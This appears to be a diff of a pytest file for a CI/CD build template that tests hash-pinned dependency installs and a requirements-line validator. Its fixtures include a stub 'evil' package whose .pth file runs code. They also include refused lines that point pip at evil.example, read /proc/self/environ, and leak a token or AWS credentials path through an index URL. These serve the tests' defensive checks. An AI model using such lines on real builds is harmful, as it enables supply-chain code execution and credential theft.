@@ -3,39 +3,24 @@
 from __future__ import annotations
 
 import json
-import os
 import re
 import shutil
 import subprocess
 import sys
 from pathlib import Path
-from typing import Any
 
 import pytest
 import yaml
 
 from cicd_templates.builds import buildspecs
 from cicd_templates.builds.presets import PRESETS, checks_of
-from cicd_templates.config.environment import Service
-from cicd_templates.config.tables.checks import Preset
 from cicd_templates.deploy.releases.archives import source_archive
 from cicd_templates.functions.scan_gate.formats import read_report
-from tests.conftest import ROOT, environment
+from tests.conftest import ROOT
+from tests.unit.builds.build_runner import EXAMPLE, SERVICE, checked, commands, run, service
 
-EXAMPLE = ROOT / "examples/payment-processor"
-SERVICE = "services/payment-processor"
 CONNECTION = "arn:aws:codeconnections:eu-central-1:111111111111:connection/1"
 PINS = ROOT / "src/cicd_templates/builds/pins"
-
-
-def service(*edits: tuple[str, Any]) -> Service:
-    (found,) = environment("tools", *edits).services
-    return found
-
-
-def commands(text: str, phase: str = "build") -> list[str]:
-    found: list[str] = yaml.safe_load(text)["phases"][phase]["commands"]
-    return found
 
 
 def every_buildspec() -> dict[str, str]:
@@ -70,46 +55,6 @@ def source(tmp_path: Path) -> Path:
     copy = tmp_path / "source"
     shutil.copytree(EXAMPLE, copy, ignore=shutil.ignore_patterns("__pycache__"))
     return copy
-
-
-def run(command: str, source: Path, *before_path: Path, **variables: str) -> subprocess.CompletedProcess[str]:
-    """One command of a build as CodeBuild runs it, with the tools of this environment."""
-    path = os.pathsep.join([*map(str, before_path), str(Path(sys.executable).parent), "/usr/bin", "/bin"])
-    here = {
-        "PATH": path,
-        "HOME": str(source.parent),
-        "CODEBUILD_SRC_DIR": str(source),
-        "CODEBUILD_BUILD_ID": "payments:1",
-        "SOURCE_VERSION": "v.1_2-3",
-        "EXECUTION_ID": "e-1",
-        **variables,
-    }
-    # A container has its own /tmp, and so has this run.
-    temporary = source.parent / "tmp"
-    temporary.mkdir(exist_ok=True)
-    return subprocess.run(
-        ["bash", "-c", command.replace("/tmp/", f"{temporary}/")],
-        cwd=source,
-        env=here,
-        capture_output=True,
-        text=True,
-        check=False,
-        timeout=120,
-    )
-
-
-def checked(name: str, source: Path) -> tuple[dict[str, Any], Path]:
-    """The run record and the report of a check, run on `source`."""
-    of = service()
-    (check,) = [each for each in checks_of(of) if each.name == name]
-    specification = buildspecs.check(of, check)
-    policy = run(commands(specification, "install")[0], source)
-    assert policy.returncode == 0, policy.stderr
-    (command,) = commands(specification)
-    answer = run(command, source)
-    assert answer.returncode == 0, answer.stderr
-    record = json.loads((source / ".report/run.json").read_text())
-    return record, source / ".report" / record["report"]
 
 
 def test_the_unit_tests_run_and_report_as_junit(source: Path) -> None:
@@ -185,11 +130,11 @@ def test_no_comment_of_the_source_hides_a_secret(source: Path) -> None:
 def test_safety_finds_no_policy_of_the_source(source: Path, tmp_path: Path) -> None:
     for name in (".safety-policy.yml", ".safety-project.ini"):
         (source / name).write_text("ignore: everything")
-    stub(tmp_path / "bin", "safety", 'ls -A "$PWD" > "${REPORT:-/dev/null}"')
+    stub(tmp_path / "tmp/tool/bin", "safety", 'ls -A "$PWD" > "${REPORT:-/dev/null}"')
     of = service()
     specification = buildspecs.check(of, next(check for check in checks_of(of) if check.name == "safety"))
     run(commands(specification, "install")[0], source)
-    run(commands(specification)[0].replace("/tmp/tool/bin:", ""), source, tmp_path / "bin")
+    run(commands(specification)[0], source)
 
     there = (source / ".report/report.json").read_text().split()
     assert "requirements.txt" in there
@@ -199,26 +144,108 @@ def test_safety_finds_no_policy_of_the_source(source: Path, tmp_path: Path) -> N
 def test_snyk_ignores_the_policy_of_the_source() -> None:
     (command,) = PRESETS["snyk"]().commands
 
-    assert command.startswith("snyk test ")
+    assert command.startswith("/tmp/tool/bin/snyk test ")
     assert " --ignore-policy " in command
 
 
-@pytest.mark.parametrize("name", ["unit-tests", "snyk"])
-def test_packages_of_the_application_are_installed_by_hash_as_wheels_and_without_a_secret(
-    name: Preset, source: Path
-) -> None:
-    (install,) = [command for command in PRESETS[name]().install if "--requirement requirements.txt" in command]
-    tool = source.parent / "tmp/tool/bin"
-    stub_script = 'echo "token: ${SNYK_TOKEN-none}" >> "$HOME/calls"; echo "$*" >> "$HOME/calls"'
-    tool.mkdir(parents=True)
-    (tool / "pip").write_text(f"#!/bin/bash\n{stub_script}\n")
-    (tool / "pip").chmod(0o755)
-    token = {"SNYK_TOKEN": "t"} if name == "snyk" else {}
+WHEEL = """\
+echo "token: ${SNYK_TOKEN-none}"
+mkdir -p /tmp/wheels/evil /tmp/wheels/evil-1.dist-info
+echo "import os; os.system('touch ran')" | tee /tmp/wheels/evil.pth > /tmp/wheels/sitecustomize.py
+printf 'Metadata-Version: 2.1\\nName: evil\\nVersion: 1\\n' > /tmp/wheels/evil-1.dist-info/METADATA
+"""
 
-    assert run(install, source, **token).returncode == 0
-    token_line, arguments = (source.parent / "calls").read_text().splitlines()
-    assert token_line == "token: none"
-    assert "--no-deps --require-hashes --only-binary :all: --requirement requirements.txt" in arguments
+
+def test_packages_of_the_application_are_installed_by_hash_as_wheels_for_its_tests(source: Path) -> None:
+    (install,) = PRESETS["unit-tests"]().install
+    stub(source.parent / "tmp/tool/bin", "pip", "")
+
+    assert run(install, source).returncode == 0
+    called = (source.parent / "tmp/tool/bin/calls").read_text()
+    assert "--no-deps --require-hashes --only-binary :all: --requirement requirements.txt" in called
+
+
+def test_snyk_gets_the_metadata_of_the_packages_and_none_of_their_code_beside_its_token(source: Path) -> None:
+    (install,) = PRESETS["snyk"]().install
+    temporary = source.parent / "tmp"
+    stub(temporary / "tool/bin", "pip", WHEEL.replace("/tmp", str(temporary)))
+    (temporary / "tool/bin/python3").symlink_to(sys.executable)
+    answer = run(install, source, SNYK_TOKEN="t")
+
+    assert answer.returncode == 0, answer.stderr
+    assert "token: none" in answer.stdout
+    assert "--no-deps --require-hashes --only-binary :all:" in (temporary / "tool/bin/calls").read_text()
+    listed = "import importlib.metadata as m; print([each.name for each in m.distributions()])"
+    python = subprocess.run([temporary / "described/bin/python3", "-c", listed], cwd=source, capture_output=True)
+    assert python.stdout == b"['evil']\n"
+    assert not (source / "ran").exists()
+    assert {path.name for path in (temporary / "described/lib").rglob("*") if "evil" in path.name} == {
+        "evil-1.dist-info"
+    }
+
+
+def pinned(text: str, folder: Path) -> subprocess.CompletedProcess[str]:
+    (folder / "requirements.txt").write_text(text)
+    script = ROOT / "src/cicd_templates/builds/scripts/pinned_requirements.py"
+    command = [sys.executable, "-I", str(script), "requirements.txt"]
+    return subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)
+
+
+HASH = f"--hash=sha256:{'a' * 64}"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        pytest.param(f"a==1 {HASH}\n", id="one line"),
+        pytest.param(
+            f"A.b-c[x,y]==1.0.post1+local \\\n    {HASH} \\\n    {HASH}\n    # via d\n", id="as pip-compile writes"
+        ),
+        pytest.param(f'a==1 ; python_version < "3.12" \\\n    {HASH}\n', id="a marker"),
+        pytest.param(f"--index-url https://example.com/simple\na==1 {HASH}\n", id="an index"),
+        pytest.param("# nothing\n\n", id="none"),
+    ],
+)
+def test_requirements_by_version_and_hash_are_taken(text: str, tmp_path: Path) -> None:
+    answer = pinned(text, tmp_path)
+
+    assert answer.returncode == 0, answer.stderr
+    assert answer.stdout.count("==") == text.count("==")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "a",
+        "a==1",
+        f"a>=1 {HASH}",
+        f"a @ https://evil.example/a-1.tar.gz {HASH}",
+        f"https://evil.example/a-1.tar.gz {HASH}",
+        f"./a-1.tar.gz {HASH}",
+        f"a==1 ; python_version @ https://evil.example {HASH}",
+        "-e .",
+        "--editable=.",
+        "-r other.txt",
+        "-c /proc/self/environ",
+        "--no-binary :all:",
+        "--no-binary=a",
+        f"a==1 {HASH} --config-settings=x=y",
+        f"a==1 {HASH} --global-option=x",
+        "--find-links http://evil.example",
+        "--index-url http://evil.example",
+        "--index-url https://a --no-binary :all:",
+        "--trusted-host evil.example",
+        "--pre",
+        "${SNYK_TOKEN}",
+        "--index-url https://evil.example/${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI}",
+    ],
+)
+def test_whatever_else_requirements_hold_is_refused_by_its_line(line: str, tmp_path: Path) -> None:
+    answer = pinned(f"b==2 {HASH}\n{line}\n", tmp_path)
+
+    assert answer.returncode == 1
+    assert line.split()[0] in answer.stderr
+    assert len(answer.stderr.splitlines()) == 1
 
 
 def test_the_example_can_be_installed_by_hash_alone(source: Path) -> None:
@@ -237,7 +264,7 @@ def test_only_the_known_judges_run_nothing_of_the_application() -> None:
     ]
     running = {check.name: check.runs_application for check in checks_of(service(*edits))}
 
-    assert running == {"bandit": True, "safety": False, "snyk": True, "secrets": False, "own": True}
+    assert running == {"bandit": True, "safety": False, "snyk": False, "secrets": False, "own": True}
 
 
 def test_a_tool_that_breaks_leaves_its_record_and_no_report(source: Path) -> None:
@@ -264,7 +291,7 @@ def test_the_bill_of_materials_lists_what_is_pinned(source: Path) -> None:
 
 def stub(folder: Path, name: str, script: str) -> None:
     """A program of that name, which keeps its arguments beside it."""
-    folder.mkdir(exist_ok=True)
+    folder.mkdir(parents=True, exist_ok=True)
     path = folder / name
     path.write_text(f'#!/bin/bash\necho "{name} $*" >> "{folder}/calls"\n{script}\n')
     path.chmod(0o755)
@@ -448,7 +475,7 @@ def test_the_policy_is_taken_from_the_source_before_anything_runs(source: Path) 
         first, *_ = commands(buildspecs.check(of, check), "install")
         (source / "scan-policy.toml").write_text(f"# {check.name}")
         assert run(first, source).returncode == 0
-        assert (source / ".report/scan-policy.toml").read_text() == f"# {check.name}"
+        assert (source.parent / "tmp/report/scan-policy.toml").read_text() == f"# {check.name}"
 
 
 def test_a_report_that_lies_in_the_source_is_not_handed_on(source: Path) -> None:
